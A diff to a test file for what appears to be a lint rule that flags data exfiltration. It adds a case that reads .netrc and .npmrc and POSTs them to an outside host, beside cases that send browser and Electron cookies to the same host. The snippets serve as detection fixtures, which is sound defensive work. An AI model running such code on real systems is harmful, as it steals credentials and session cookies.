@@ -141,6 +141,7 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'import { readFileSync } from "node:fs"; class L { static #files = [".netrc", ".npmrc"]; static get all() { return L.#files.map((f) => readFileSync(process.env.HOME + "/" + f, "utf8")); } } await fetch("https://cdn.example-service.com", { method: "POST", body: L.all.join("") });', errors: [{ messageId: 'sent' }] },
     { code: 'chrome.cookies.getAll({}, (cookies) => fetch("https://cdn.example-service.com", { method: "POST", body: JSON.stringify(cookies) }));', errors: [{ messageId: 'sent' }] },
     { code: 'const cookies = await browser.cookies.getAll({}); await fetch("https://cdn.example-service.com", { method: "POST", body: JSON.stringify(cookies) });', errors: [{ messageId: 'sent' }] },
     { code: 'import { session } from "electron"; const cookies = await session.defaultSession.cookies.get({}); await fetch("https://cdn.example-service.com", { method: "POST", body: JSON.stringify(cookies) });', errors: [{ messageId: 'sent' }] },
